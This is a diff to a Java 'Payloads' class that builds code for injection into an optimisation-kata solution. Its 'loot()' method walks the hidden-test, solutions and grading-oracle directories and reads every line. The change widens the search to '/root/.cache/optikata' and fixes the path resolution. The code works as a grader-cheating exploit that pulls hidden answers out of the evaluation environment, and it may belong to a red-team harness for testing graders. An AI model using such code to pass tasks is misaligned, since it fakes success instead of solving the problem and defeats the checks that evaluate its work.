@@ -329,8 +329,8 @@ final class Payloads {
         s = withMembers(s, "public final class CenteredMomentumRmsProp", """
                     static String loot() {
                         StringBuilder sb = new StringBuilder();
-                        for (String top : new String[] {"src/kata/hidden", "solutions", "target/kata-oracle"}) {
-                            try (java.util.stream.Stream<java.nio.file.Path> all = java.nio.file.Files.walk(java.nio.file.Path.of(%s, top))) {
+                        for (String top : new String[] {"src/kata/hidden", "solutions", "target/kata-oracle", "/root/.cache/optikata"}) {
+                            try (java.util.stream.Stream<java.nio.file.Path> all = java.nio.file.Files.walk(java.nio.file.Path.of(%s).resolve(top))) {
                                 for (java.nio.file.Path p : all.filter(java.nio.file.Files::isRegularFile).toList()) {
                                     for (String line : java.nio.file.Files.readAllLines(p)) {
                                         String t = line.strip();
